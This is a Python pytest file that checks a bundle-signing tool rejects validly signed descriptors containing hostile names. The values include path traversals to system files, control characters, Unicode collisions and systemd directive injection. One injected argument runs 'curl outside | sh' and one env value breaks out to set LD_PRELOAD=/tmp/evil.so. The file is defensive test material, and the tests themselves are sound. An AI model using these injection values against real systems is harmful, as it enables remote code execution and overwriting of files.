"""Signed names are untrusted: a descriptor signed with the trusted key that holds a hostile name or path is refused.

Every case re-signs a mutated descriptor with the trusted key (``forge.resign``), so the signature is genuine and only
the names rule (``gapseal.names`` through ``BundleDescriptor.problems``) stands in the way. Each asserts exit 1 and
a message naming the component and the reason; the first cases also prove nothing reaches the disk through extract.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from gapseal.bundler.archive import pack_layout
from tests.adversarial.conftest import Gapseal, refused
from tests.adversarial.forge import Layout, resign
from tests.bundles import KeyPair

Doc = dict[str, Any]


def _model_name(value: str) -> Callable[[Doc], None]:
    def edit(d: Doc) -> None:
        d["models"][0]["name"] = value

    return edit


def _model_file(value: str) -> Callable[[Doc], None]:
    def edit(d: Doc) -> None:
        d["models"][0]["files"][0]["path"] = value

    return edit


def _add_model_file(value: str) -> Callable[[Doc], None]:
    """A second entry with another file's content under a new path (its blob exists, so only the name can fail)."""

    def edit(d: Doc) -> None:
        extra = copy.deepcopy(d["models"][0]["files"][0])
        extra["path"] = value
        d["models"][0]["files"].append(extra)

    return edit


def _service(**fields: object) -> Callable[[Doc], None]:
    def edit(d: Doc) -> None:
        d["services"] = [{"name": "chat", "build": "server", "model": "tiny", "exec": "bin/server", **fields}]

    return edit


def _set(path: tuple[str | int, ...], value: object) -> Callable[[Doc], None]:
    def edit(d: Doc) -> None:
        target: Any = d
        for part in path[:-1]:
            target = target[part]
        target[path[-1]] = value

    return edit


def _add_files_component(name: str) -> Callable[[Doc], None]:
    def edit(d: Doc) -> None:
        d["files"].append({"name": name, "files": copy.deepcopy(d["files"][0]["files"])})

    return edit


def _nfc_nfd(d: Doc) -> None:
    """Two files whose names differ only in Unicode normalisation: one file on macOS and on many USB disks."""
    first = d["files"][0]["files"][0]
    d["files"][0]["files"] = [{**first, "path": "caf\u00e9.md"}, {**first, "path": "cafe\u0301.md"}]


def _same_backend_variants(d: Doc) -> None:
    d["builds"][0]["variants"][1]["backend"] = "cuda"


def _image(name: str) -> Callable[[Doc], None]:
    blob = {"digest": "sha256:" + "ab" * 32, "size": 2, "media_type": "application/vnd.oci.image.config.v1+json"}

    def edit(d: Doc) -> None:
        d["images"] = [
            {
                "name": name,
                "source": "oci:img",
                "digest": "sha256:" + "cd" * 32,
                "size": 10,
                "media_type": "application/vnd.oci.image.manifest.v1+json",
                "source_digest": "sha256:" + "cd" * 32,
                "platforms": [],
                "manifests": [
                    {
                        "digest": "sha256:" + "cd" * 32,
                        "size": 10,
                        "media_type": "application/vnd.oci.image.manifest.v1+json",
                        "config": blob,
                        "layers": [],
                    }
                ],
            }
        ]

    return edit


# (edit, fragments the message must hold)
CASES: dict[str, tuple[Callable[[Doc], None], tuple[str, ...]]] = {
    "model-name-dotdot-etc": (_model_name("../../../etc/x"), ("'../../../etc/x'", "'..' component")),
    "model-name-absolute": (_model_name("/etc/x"), ("model '/etc/x'", "absolute")),
    "model-name-empty": (_model_name(""), ("model ''", "empty")),
    "model-name-dot": (_model_name("."), ("model '.'", "'.' component")),
    "model-name-dotdot": (_model_name(".."), ("model '..'", "'..' component")),
    "model-name-slash": (_model_name("a/b"), ("model 'a/b'", "contains a slash")),
    "model-name-backslash": (_model_name("..\\x"), ("model", "backslash")),
    "model-name-nul": (_model_name("a\x00b"), ("model", "NUL or control character")),
    "model-name-newline": (_model_name("a\nb"), ("model", "NUL or control character")),
    "model-name-c1-control": (_model_name("a\x85b"), ("model", "NUL or control character")),
    "model-name-leading-dash": (_model_name("-rf"), ("model '-rf'", "must start with a letter or digit")),
    "model-name-256-bytes": (_model_name("m" * 256), ("model", "over the 255-byte limit")),
    "model-file-dotdot-etc-passwd": (_model_file("../../etc/passwd"), ("model 'tiny' file", "'..' component")),
    "model-file-absolute": (_model_file("/etc/passwd"), ("model 'tiny' file", "absolute")),
    "model-file-inner-dotdot": (_model_file("a/../../b"), ("model 'tiny' file", "'..' component")),
    "model-file-dot-component": (_model_file("./config.json"), ("model 'tiny' file", "'.' component")),
    "model-file-empty-component": (_model_file("a//b"), ("model 'tiny' file", "empty component")),
    "model-file-trailing-slash": (_model_file("dir/"), ("model 'tiny' file", "empty component")),
    "model-file-empty": (_model_file(""), ("model 'tiny' file", "the path is empty")),
    "model-file-backslash-traversal": (_model_file("..\\..\\etc\\passwd"), ("model 'tiny' file", "backslash")),
    "model-file-control-char": (_model_file("a\x1bb"), ("model 'tiny' file", "NUL or control character")),
    "model-file-del-char": (_model_file("a\x7fb"), ("model 'tiny' file", "NUL or control character")),
    "model-file-component-256-bytes": (_model_file("d/" + "f" * 256), ("model 'tiny' file", "255-byte limit")),
    "model-file-multibyte-over-255": (_model_file("é" * 128), ("model 'tiny' file", "256 bytes, over the 255-byte")),
    "model-file-path-over-4096-bytes": (
        _model_file("/".join(["d" * 200] * 21)),
        ("model 'tiny' file", "over the 4096-byte limit"),
    ),
    "model-file-lone-surrogate": (_model_file("a\udc80b"), ("model 'tiny' file", "not valid UTF-8")),
    "model-file-case-collision": (_add_model_file("CONFIG.JSON"), ("'models/tiny/CONFIG.JSON' collides",)),
    "model-file-nfc-nfd-collision": (_nfc_nfd, ("collides with 'files/docs/caf\u00e9.md'",)),
    "model-file-is-also-a-directory": (_add_model_file("config.json/x"), ("collides with 'models/tiny/config.json'",)),
    "model-file-named-like-the-signature": (
        _add_model_file("model.sig"),
        ("duplicate subject name 'models/tiny/model.sig'",),
    ),
    "model-signature-path-traversal": (
        _set(("models", 0, "signature", "path"), "../../model.sig"),
        ("model 'tiny' signature", "'..' component"),
    ),
    "files-name-traversal": (_set(("files", 0, "name"), "../docs"), ("files '../docs'", "'..' component")),
    "files-file-absolute": (_set(("files", 0, "files", 0, "path"), "/root/.ssh/authorized_keys"), ("files 'docs'",)),
    "build-name-traversal": (_set(("builds", 0, "name"), "../../usr/bin"), ("build '../../usr/bin'",)),
    "build-file-traversal": (
        _set(("builds", 0, "variants", 0, "files", 0, "path"), "../../../usr/bin/sudo"),
        ("build 'server' cuda-amd64 file", "'..' component"),
    ),
    # Two variants in one directory also make two subjects of one name: the statement parser refuses it first.
    "build-variants-same-directory": (_same_backend_variants, ("duplicate subject name 'builds/server/cuda-amd64",)),
    "image-name-traversal": (_image("../../var/lib/containers"), ("image '../../var/lib/containers'",)),
    "image-name-collides-with-model": (_image("TINY"), ("image 'TINY'", "collides with model 'tiny'")),
    "component-names-collide-across-kinds": (_add_files_component("tiny"), ("files 'tiny'", "collides with model")),
    "component-names-collide-by-case": (_add_files_component("Docs"), ("files 'Docs'", "collides with files 'docs'")),
    # The service model's own validators (gapseal.bundler.spec) refuse these while the descriptor is parsed.
    "service-name-traversal": (_service(name="../../etc/systemd/system/x"), ("malformed", "services.0.name")),
    "service-exec-absolute": (_service(exec="/bin/sh"), ("malformed", "services.0", "'/bin/sh'")),
    "service-exec-traversal": (_service(exec="../../../bin/sh"), ("malformed", "services.0", "'../../../bin/sh'")),
    # Arguments and environment become lines of a systemd unit file: a newline would add a directive of its own.
    "service-arg-newline-directive": (
        _service(args=["--port", "8080\nExecStartPre=/bin/sh -c 'curl outside | sh'"]),
        ("malformed", "services.0", "args[1]", "control character"),
    ),
    "service-env-newline-directive": (
        _service(env={"A": "1\nExecStartPre=/bin/sh"}),
        ("malformed", "services.0", "env.A", "control character"),
    ),
    "service-env-quote-breakout": (
        _service(env={"A": 'x" "LD_PRELOAD=/tmp/evil.so'}),
        ("malformed", "services.0", "env.A", "quote"),
    ),
    "service-env-bad-name": (
        _service(env={"LD_PRELOAD=/x ": "1"}),
        ("malformed", "services.0", "not an environment variable name"),
    ),
    "service-unknown-build": (_service(build="other"), ("service 'chat'", "'other' is not a build")),
    "service-unknown-model": (_service(model="other"), ("service 'chat'", "'other' is not a model")),
    "sbom-path-traversal": (_set(("sbom", "path"), "../../bom.cdx.json"), ("sbom", "'..' component")),
    "wheel-name-traversal": (
        _set(("wheels",), {"python_version": "3.11", "files": []}),
        (),
    ),
    "bundle-name-traversal": (_set(("name",), "../../state"), ("bundle name", "not a valid bundle name")),
    "bundle-name-uppercase-space": (_set(("name",), "Evil Name"), ("bundle name", "not a valid bundle name")),
    "digest-naming-a-path": (
        _set(("models", 0, "files", 0, "digest"), "sha256:../../index.json"),
        ("the bundle descriptor is malformed", "digest"),
    ),
}
# An empty wheel set is fine on its own: replace that placeholder by a real hostile wheel name.
del CASES["wheel-name-traversal"]


def _hostile_wheel(d: Doc) -> None:
    wheel = copy.deepcopy(d["files"][0]["files"][0])
    d["wheels"] = {
        "python_version": "3.11",
        "files": [{**wheel, "path": "../../x-1.0-py3-none-any.whl", "name": "x", "version": "1.0"}],
    }


CASES["wheel-name-traversal"] = (_hostile_wheel, ("wheel '../../x-1.0-py3-none-any.whl'", "'..' component"))


def _wheel_in_a_directory(d: Doc) -> None:
    _hostile_wheel(d)
    d["wheels"]["files"][0]["path"] = "lib/x-1.0-py3-none-any.whl"


CASES["wheel-name-with-a-directory"] = (_wheel_in_a_directory, ("a wheel is one file name, not a path",))


@pytest.mark.parametrize("case", sorted(CASES))
def test_verify_refuses_a_trusted_signed_hostile_name(case: str, bundle: Path, keys: KeyPair, gapseal: Gapseal) -> None:
    edit, fragments = CASES[case]
    doc = Layout(bundle).descriptor()
    edit(doc)
    resign(bundle, keys.private, doc)
    result = gapseal("bundle", "verify", bundle, "--key", keys.public_path)
    refused(result, "bundle does not verify", *fragments)
    if not {"malformed", "duplicate"} & set(" ".join(fragments).split()):
        assert "unsafe" in result.err


def test_a_dotdot_model_never_reaches_the_disk_through_any_command(
    tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    """The issue's example: a model named ../../../etc/x, signed by the trusted key, used every way a bundle is used."""
    work = tmp_path / "deep" / "a" / "b"
    work.mkdir(parents=True)
    doc = Layout(bundle).descriptor()
    doc["models"][0]["name"] = "../../../etc/x"
    resign(bundle, keys.private, doc)
    key = ("--key", keys.public_path)
    refused(gapseal("bundle", "verify", bundle, *key, "--json"), "model '../../../etc/x'")
    refused(gapseal("bundle", "inspect", bundle), "unsafe", "model '../../../etc/x'")
    refused(gapseal("bundle", "inspect", bundle, *key), "unsafe", "model '../../../etc/x'")
    refused(gapseal("bundle", "extract", bundle, "--model", "../../../etc/x", "--out", work / "out", *key), "unsafe")
    assert not (work / "out").exists()
    assert not (tmp_path / "deep" / "etc").exists()
    # pack reads the descriptor for its tar mtime and refuses it too; an attacker packs with other tools.
    refused(gapseal("bundle", "pack", bundle, "--out", tmp_path / "b.tar"), "unsafe", "model '../../../etc/x'")
    pack_layout(bundle, tmp_path / "b.tar", mtime=1767225600)
    refused(gapseal("bundle", "verify", tmp_path / "b.tar", *key), "model '../../../etc/x'")
    refused(gapseal("bundle", "unpack", tmp_path / "b.tar", "--out", work / "u", *key), "model '../../../etc/x'")
    assert not (work / "u").exists()
    assert not (tmp_path / "deep" / "etc").exists()


@pytest.mark.parametrize("command", ["verify", "inspect", "create-spec", "create-out", "state-file"])
def test_an_over_long_path_argument_is_one_clear_error(
    command: str, tmp_path: Path, bundle: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    """A path component over NAME_MAX given on the command line: the OS refuses it, gapseal says so (no traceback)."""
    long = tmp_path / ("x" * 300)
    args: dict[str, tuple[object, ...]] = {
        "verify": ("bundle", "verify", long, "--key", keys.public_path),
        "inspect": ("bundle", "inspect", long),
        "create-spec": ("bundle", "create", long, "--key", keys.private_path, "--out", tmp_path / "o"),
        "create-out": ("bundle", "create", tmp_path / "made/in/bundle.yaml", "--key", keys.private_path, "--out", long),
        "state-file": ("bundle", "verify", bundle, "--key", keys.public_path, "--state-file", long / "s.json"),
    }
    refused(gapseal(*args[command]), "File name too long")


@pytest.mark.parametrize(
    ("names", "fragment"),
    [
        (["README.md", "readme.md"], "collides with"),
        (["caf\u00e9.md", "cafe\u0301.md"], "collides with"),
        (["a\\b.md"], "backslash"),
        (["bell\x07.md"], "control character"),
    ],
    ids=["case-collision", "nfc-nfd-collision", "backslash", "control-char"],
)
def test_create_refuses_input_names_verify_would_refuse(
    names: list[str], fragment: str, tmp_path: Path, keys: KeyPair, gapseal: Gapseal
) -> None:
    """create applies the same names rule before hashing, naming the input, and writes nothing."""
    docs = tmp_path / "in" / "docs"
    docs.mkdir(parents=True)
    for name in names:
        (docs / name).write_text(name)
    spec = tmp_path / "in" / "bundle.yaml"
    spec.write_text(
        'apiVersion: gapseal/v1\nkind: Bundle\nmetadata: {name: d, version: 1.0.0, created: "2026-01-01T00:00:00Z"}\n'
        "files:\n  - {name: docs, path: docs}\n"
    )
    refused(gapseal("bundle", "create", spec, "--key", keys.private_path, "--out", tmp_path / "b"), fragment)
    assert not (tmp_path / "b").exists()
